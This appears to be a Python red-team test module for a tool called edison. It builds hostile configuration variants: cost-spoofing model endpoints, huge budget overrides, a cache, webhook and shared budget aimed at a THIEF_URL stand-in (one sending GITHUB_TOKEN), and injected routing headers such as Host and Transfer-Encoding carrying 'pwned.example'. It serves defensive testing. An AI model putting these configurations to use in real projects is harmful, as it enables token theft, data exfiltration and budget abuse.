"""Attacks on the closed list: a service, a price or a setting of the head takes part in its job."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.redteam.attack import Attack, Variant
from tests.redteam.bench import KEY
from tests.redteam.money import BUDGET, LONG, entry, models

if TYPE_CHECKING:
    from collections.abc import Iterator
    from random import Random

    from tests.redteam.attack import Change
    from tests.redteam.bench import Done, Scene

BODY = 'body: {model: "Welcome, friend", messages: [{role: user, content: "{{ prompt }}"}]}'
"""The server says in its reply which model it was asked for."""
TEXTS = ("choices.0.message.content", "model", "id", "object", "choices.0.finish_reason")
COSTS = (
    "usage: {cost_usd: choices.0.index}",  # which is always 0
    "usage: {tokens_in: choices.0.index, tokens_out: choices.0.index}",
    "usage: {cost_usd: nothing}",
    "",
)
SETTINGS = (
    "settings: {private: false}", "settings: {reuse_days: 3650}", "settings: {allow_code: true}",
    "settings: {monthly_budget_usd: 1000000}", "defaults: {budget_usd: 10000}",
    "cache: {url_env: THIEF_URL, unsigned: replay}",
    "shared_budget: {url_env: THIEF_URL, token_env: GITHUB_TOKEN, if_unreachable: continue}",
    "notifications: [{name: eve, on: [run_completed], webhook_env: THIEF_URL, texts: true}]",
    "members: [{github: eve, role: owner}]", "team: other", "results: .edison/other.db",
)  # fmt: skip
STOPS = (
    "stop: {budget_usd: 10000, daily_budget_usd: 10000}", "stop: {adaptive_sampling: true}",
    "stop: {prune_weak_prompts: false, max_total_tokens: 10000000}",
)  # fmt: skip
FREE_BATCH = "{in: 1, out: 2, batch: {in: 0, out: 0}}"


HEADERS = (
    "Host", "HOST", "Content-Length", "Transfer-Encoding", "transfer-encoding", "Connection",
    "Upgrade", "TE", "Trailer", "Via", "Expect", "Forwarded", "X-Forwarded-Host", "X-FORWARDED-FOR",
    "X-Forwarded-Proto", "Cookie", "Cookie2", "Proxy-Authorization", "Proxy-Connection",
    "Keep-Alive", "X-Original-URL", "X-HTTP-Method-Override", "X_Forwarded_Host", "Host ",
    "X-Real-IP", "Authorization", "User-Agent", "HTTP-Referer",
)  # fmt: skip
"""Headers that decide where a request ends, or whose it seems to be; the last three are usual."""
VALUE = "pwned.example"


def header(name: str) -> Change:
    """Return a head that adds a header to the calls of its model, which its trust.yaml allows."""

    def change(scene: Scene) -> None:
        options = f"options: {{headers: {{{json.dumps(name)}: {VALUE}}}}}"
        models(scene, f"{entry()}, {options}")
        url = scene.site.model.url
        allowed = f"services: [{{host: '{url}', headers: [{json.dumps(name)}]}}]\n"
        scene.add(".edison/trust.yaml", allowed)

    return change


def _arrived(scene: Scene, _: Done) -> Iterator[str]:
    for seen in scene.site.model.requests:
        if VALUE in str(seen.headers):
            yield "the model got a header of the head"


def _headed(name: str, *command: str) -> Variant:
    return Variant(
        f"header {name}: {' '.join(command)}", _worse(header(name)), then=_arrived,
        command=command, may_pass=command[0] == "run",
    )  # fmt: skip


def application(text: str, usage: str, *, where: str = "", key: bool = True) -> Change:
    """Return a head that turns the model into an http application, here or at the thief."""

    def change(scene: Scene) -> None:
        host = scene.site.thief.url if where == "thief" else scene.site.model.url
        named = f"\n  key_env: {KEY}" if key else ""
        usage_line = f"\n    {usage}" if usage else ""
        scene.write(
            "models.yaml",
            f"small:\n  provider: http\n  model: m\n  base_url: {host}/v1/chat/completions{named}\n"
            f"  price: {{call: 0.0001}}\n  options:\n    {BODY}\n    text: {text}{usage_line}\n",
        )
        if where == "thief":
            scene.add(".edison/trust.yaml", f"hosts: ['{host}']\n")

    return change


def setting(text: str) -> Change:
    """Return a head that writes keys of edison.yaml."""

    def change(scene: Scene) -> None:
        scene.write("edison.yaml", f"version: 1\nproject: greetings\n{text}\n")

    return change


def stop(text: str) -> Change:
    """Return a head that writes stop rules."""

    def change(scene: Scene) -> None:
        scene.add("experiments/hello.yaml", f"{text}\n")

    return change


def base(scene: Scene) -> None:
    """Write a base with a budget."""
    models(scene, entry())
    usd = f"{BUDGET / 1e6:g}"
    scene.write("edison.yaml", f"version: 1\nproject: greetings\ndefaults: {{budget_usd: {usd}}}\n")


def _worse(change: Change) -> Change:
    def worse(scene: Scene) -> None:
        change(scene)
        scene.worsen()

    return worse


def _costly(name: str, change: Change, *more: str) -> Variant:
    return Variant(
        f"spends: {name}", change, base, command=("github", "run", *more), script=LONG,
        may_pass=True, budget_microusd=BUDGET, proxied=True,
    )  # fmt: skip


def _passing(name: str, change: Change) -> Variant:
    return Variant(f"passes: {name}", _worse(change), proxied=True)


def _fixed() -> Iterator[Variant]:
    for usage in COSTS:
        yield _costly(f"application with {usage or 'no usage'}", application(TEXTS[0], usage))
    yield _costly(
        "batches for free", lambda scene: models(scene, entry(price=FREE_BATCH)), "--batch"
    )
    for text in TEXTS[1:]:
        yield _passing(f"application that answers with {text}", application(text, ""))
    for key in (True, False):
        yield _passing(
            f"application of the thief, {'with' if key else 'without'} a key",
            application(TEXTS[0], "", where="thief", key=key),
        )
    for text in SETTINGS:
        yield _costly(text, setting(text))
        yield _passing(text, setting(text))
    for name in HEADERS:
        yield _headed(name, "github", "run")
    for name in HEADERS[:-3]:
        yield _headed(name, "run", "--yes")
    for text in STOPS:
        yield _costly(text, stop(text))
        yield _passing(text, stop(text))


def _made(random: Random) -> Variant:
    if random.random() < 0.2:
        name = "".join(c.upper() if random.random() < 0.3 else c for c in random.choice(HEADERS))
        return _headed(name, "github", "run")
    text, usage = random.choice(TEXTS), random.choice(COSTS)
    where = random.choice(["", "thief"])
    changes = [
        *random.sample([setting(text) for text in SETTINGS], 1),
        *random.sample([stop(text) for text in STOPS], random.choice([0, 1])),
        application(text, usage, where=where, key=random.random() < 0.5),
    ]

    def change(scene: Scene) -> None:
        for part in changes:
            part(scene)

    name = f"application at {where or 'the model'} with {text} and {usage or 'no usage'}"
    return _costly(name, change) if random.random() < 0.5 else _passing(name, change)


PROMISE = "a proposal contributes to its job what the closed list names, and nothing else"
ATTACKS = (Attack("terms", PROMISE, _fixed, _made, share=0.5),)
